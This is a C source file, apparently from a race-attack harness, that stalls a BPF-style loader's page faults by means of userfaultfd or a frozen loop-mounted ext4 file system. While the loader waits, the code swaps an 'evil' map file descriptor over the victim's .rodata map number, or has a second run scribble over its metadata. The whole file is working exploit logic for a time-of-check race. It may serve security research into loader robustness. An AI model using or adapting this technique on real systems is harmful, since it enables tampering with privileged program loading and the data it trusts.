// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - a log buffer whose page faults wait: the loader sleeps for as long as one likes
 *
 * Two ways to make a page fault wait: userfaultfd, and a file on a file system that is frozen.
 */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/fs.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "race.h"

#define LOG_SIZE (1024 * 1024)
#define PAGE	 4096

static struct {
	int uffd;
	char *fault;  /* log buffer whose faults come to uffd */
	int fs;	      /* a directory on the file system to freeze */
	char *frozen; /* log buffer in a file there */
} stall;

static void set_log(struct ctx *c, void *buf)
{
	uint32_t level = 2, size = LOG_SIZE;
	uint64_t addr = (uintptr_t)buf;

	memcpy(c->bytes + 8, &level, 4);
	memcpy(c->bytes + 12, &size, 4);
	memcpy(c->bytes + 16, &addr, 8);
}

static int fault_open(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register reg = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	stall.fault = mmap(NULL, LOG_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	stall.uffd = syscall(__NR_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (stall.uffd < 0 || stall.fault == MAP_FAILED)
		return -errno;
	stall.uffd = race_high(stall.uffd);
	reg.range.start = (uintptr_t)stall.fault;
	reg.range.len = LOG_SIZE;
	if (ioctl(stall.uffd, UFFDIO_API, &api) || ioctl(stall.uffd, UFFDIO_REGISTER, &reg))
		return -errno;
	return 0;
}

/**
 * stall_fault_before() - a log buffer none of whose pages is there
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int stall_fault_before(struct race *r)
{
	int err = stall.fault ? 0 : fault_open();

	if (err)
		return err;
	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
	set_log(&r->ctx, stall.fault);
	err = number_prog_before(r);
	return err ? err : number_before(r);
}

/* The address of the fault in which the loader waits, or 0. */
static uint64_t fault_now(int ms)
{
	struct pollfd p = {.fd = stall.uffd, .events = POLLIN};
	struct uffd_msg msg;

	if (poll(&p, 1, ms) != 1 || read(stall.uffd, &msg, sizeof(msg)) != sizeof(msg))
		return 0;
	return msg.event == UFFD_EVENT_PAGEFAULT ?
		       msg.arg.pagefault.address & ~(uint64_t)(PAGE - 1) : 0;
}

/* Wait for the loader to wait; 0 when it has ended. */
static uint64_t fault_wait(struct race *r)
{
	uint64_t addr = 0;

	while (r->running && !addr)
		addr = fault_now(1);
	return addr;
}

static void fault_release(uint64_t addr)
{
	struct uffdio_zeropage zero = {.range = {addr, PAGE}};

	ioctl(stall.uffd, UFFDIO_ZEROPAGE, &zero);
}

/* Own map over a number that is not in the table yet: where it is reserved, that must fail. */
static void poke(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (!number_open(n) && dup2(r->evil[0], n) == n)
		close(n);
}

/*
 * Release it until it waits with all maps made and the data frozen, in a program's log. The page
 * is taken away when the BTF is there: nothing is logged until the first program.
 */
static uint64_t fault_wait_for_maps(struct race *r)
{
	uint64_t addr;

	while (r->running && !number_open(r->base)) {
		addr = fault_now(0);
		if (!addr)
			continue;
		poke(r);
		fault_release(addr);
	}
	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
	while ((addr = fault_wait(r)) && !number_open(r->base + r->victim->maps)) {
		poke(r);
		fault_release(addr);
		madvise((void *)addr, PAGE, MADV_DONTNEED);
	}
	return addr;
}

static void fault_release_all(struct race *r, uint64_t addr)
{
	for (; addr; addr = fault_wait(r))
		fault_release(addr);
}

/**
 * stall_fault_number() - own map over the number of .rodata while the loader waits
 * @r: the round
 */
void stall_fault_number(struct race *r)
{
	uint64_t addr = fault_wait_for_maps(r);

	if (addr)
		dup2(r->evil[0], r->base + r->victim->rodata);
	fault_release_all(r, addr);
}

/**
 * stall_fault_twin() - a second run writes its numbers into the metadata while the loader waits
 * @r: the round
 */
void stall_fault_twin(struct race *r)
{
	uint64_t addr;
	int map = -1;

	/* With a table of its own, this thread sees by the ids how far the loader is. */
	while ((addr = fault_wait(r)) && (map = map_by_id(r->last_id + r->victim->maps)) < 0) {
		fault_release(addr);
		madvise((void *)addr, PAGE, MADV_DONTNEED);
	}
	close(map);
	if (addr)
		twice_scribble(r);
	fault_release_all(r, addr);
}

static int frozen_open(void)
{
	char dir[200], command[600], path[300];
	int fd;

	snprintf(dir, sizeof(dir), "%s/race.XXXXXX", getenv("TMPDIR") ?: "/tmp");
	if (!mkdtemp(dir))
		return -errno;
	snprintf(command, sizeof(command),
		 "PATH=$PATH:/sbin:/usr/sbin; cd '%s' && truncate -s 16M image && mkdir fs &&"
		 "mkfs.ext4 -q -O ^has_journal image && mount \"$(losetup -f --show image)\" fs",
		 dir);
	if (system(command))
		return -ENODEV;
	snprintf(path, sizeof(path), "%s/fs", dir);
	stall.fs = race_high(open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	snprintf(path, sizeof(path), "%s/fs/log", dir);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0 || ftruncate(fd, LOG_SIZE))
		return -errno;
	stall.frozen = mmap(NULL, LOG_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return stall.frozen == MAP_FAILED ? -errno : 0;
}

/**
 * stall_freeze_before() - a log buffer in a file on a frozen file system
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int stall_freeze_before(struct race *r)
{
	int err = stall.frozen ? 0 : frozen_open();

	if (err)
		return err;
	memset(stall.frozen, 0, PAGE);
	set_log(&r->ctx, stall.frozen);
	if (ioctl(stall.fs, FIFREEZE, 0))
		return -errno;
	return number_before(r);
}

/**
 * stall_freeze_number() - thaw for moments until all maps are made, then swap while it waits
 * @r: the round
 */
void stall_freeze_number(struct race *r)
{
	while (r->running && !number_open(r->base + r->victim->maps)) {
		ioctl(stall.fs, FITHAW, 0);
		ioctl(stall.fs, FIFREEZE, 0);
	}
	if (r->running)
		dup2(r->evil[0], r->base + r->victim->rodata);
	ioctl(stall.fs, FITHAW, 0);
}
